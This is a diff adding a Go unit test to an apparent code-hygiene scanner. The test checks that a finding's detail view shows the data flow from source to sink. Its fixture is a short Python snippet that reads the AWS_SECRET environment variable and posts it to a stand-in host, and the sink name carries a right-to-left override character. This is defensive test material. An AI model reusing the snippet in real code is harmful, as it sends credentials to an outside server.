@@ -632,3 +632,28 @@ func BenchmarkKeyDown(b *testing.B) {
 		}
 	}
 }
+
+// A finding about what code does shows its path, source to sink with
+// their lines, before the evidence; a hostile name in the flow is spelled
+// out, not passed to the terminal.
+func TestCodeFindingShowsFlow(t *testing.T) {
+	text := "import os, requests\nkey = os.environ['AWS_SECRET']\nrequests.post('https://x.example', data=key)\n"
+	fs := []core.Finding{{
+		File: "run.py", Category: core.ExternalResources, Severity: core.Critical,
+		Description: "sends an environment variable to the network", Location: "run.py:3:1",
+		Offset: strings.Index(text, "requests.post"), Length: len("requests.post"),
+		Flow: &core.Flow{Source: "os.environ['AWS_SECRET']", SourceLine: 2, Sink: "requests.post\u202e", SinkLine: 3},
+	}}
+	m := newModel(requestFor(core.HygieneReport{Source: "run.py", Tier: core.Stranger, Findings: fs}, map[string]string{"run.py": text}), 160, 30, true)
+	v := stripped(m)
+	want := "Flow: os.environ['AWS_SECRET'] (line 2) → requests.post⟨U+202E⟩ (line 3)"
+	if !strings.Contains(v, want) {
+		t.Fatalf("detail lacks %q:\n%s", want, v)
+	}
+	// Without a flow the line is absent.
+	fs[0].Flow = nil
+	m = newModel(requestFor(core.HygieneReport{Source: "run.py", Tier: core.Stranger, Findings: fs}, map[string]string{"run.py": text}), 120, 30, true)
+	if strings.Contains(stripped(m), "Flow:") {
+		t.Fatal("a finding without a flow shows one")
+	}
+}
